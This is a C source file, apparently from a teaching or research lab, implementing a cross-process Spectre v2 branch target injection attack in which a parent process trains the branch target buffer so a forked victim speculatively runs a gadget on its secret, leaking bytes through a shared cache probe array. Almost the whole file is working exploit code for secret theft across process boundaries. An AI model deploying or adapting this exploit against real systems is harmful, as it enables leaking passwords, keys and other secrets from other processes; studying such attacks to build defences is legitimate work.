/*
 * Spectre v2 across processes: the branch target buffer does not know whose entries it holds.
 *
 * The parent attacks, the child is the victim: it alone has the secret, and serves requests by an indirect call
 * through a table of the program that both have mapped, as programs share a library. The parent executes the call at
 * the same address with a table of its own that leads to gadget(). Then it flushes the victim's table and sends a
 * request; the victim's call is predicted to gadget() too. What it touches is shared, so the parent can see it.
 */
#include "lab.h"

typedef void handler(const u8 *text);

static const char ABOUT[] = "process 2 only: it made the secret after the fork";

static u8 open_text[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));
static int requests[2], answers[2];

NOINLINE static void gadget(const u8 *text)
{
    touch(probe + *text * STRIDE);
}

NOINLINE static void polite(const u8 *text)
{
    (void)text;
}

/* Read-only data: one frame for both processes, so that either can flush its line. */
static handler *const victims_table[8] __attribute__((aligned(LINE))) = {polite};
static handler *attackers_table[8] __attribute__((aligned(LINE))) = {gadget};

NOINLINE static void dispatch(handler *const *table, const u8 *text)
{
    SAME_HISTORY();
    (*table)(text);
}

NOINLINE static void serve(u64 bytes)
{
    u8 index;
    make_secret(secret, bytes);
    tell();
    SYSCALL(write, answers[1], secret, 1); /* any byte: "ready" */
    while (SYSCALL(read, requests[0], &index, 1) == 1) {
        touch(secret + index); /* it works with the secret */
        dispatch(victims_table, secret + index);
        SYSCALL(write, answers[1], open_text, 1);
    }
    SYSCALL(exit, 0, 0, 0);
}

static int prepare(u64 bytes)
{
    u8 ready;
    if (failed(map(probe, sizeof probe, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED | MAP_ANONYMOUS, -1)))
        return 0;
    for (u64 i = 0; i < sizeof probe; i += PAGE)
        probe[i] = 1;
    SYSCALL(pipe, requests, 0, 0);
    SYSCALL(pipe, answers, 0, 0);
    tell();
    i64 child = SYSCALL(fork, 0, 0, 0);
    if (child == 0) {
        SYSCALL(close, requests[1], 0, 0);
        serve(bytes);
    }
    ignored[open_text[0]] = 1;
    return child > 0 && SYSCALL(read, answers[0], &ready, 1) == 1;
}

static void attempt(u64 index)
{
    u8 request = index, answer;
    for (int more = trainings(); more > 0; more--) {
        flush(attackers_table);
        fence();
        dispatch(attackers_table, open_text);
    }
    flush_probe();
    flush(victims_table);
    fence();
    SYSCALL(write, requests[1], &request, 1);
    SYSCALL(read, answers[0], &answer, 1);
}

static void done(void)
{
    SYSCALL(close, requests[1], 0, 0);
    SYSCALL(wait4, -1, 0, 0);
}
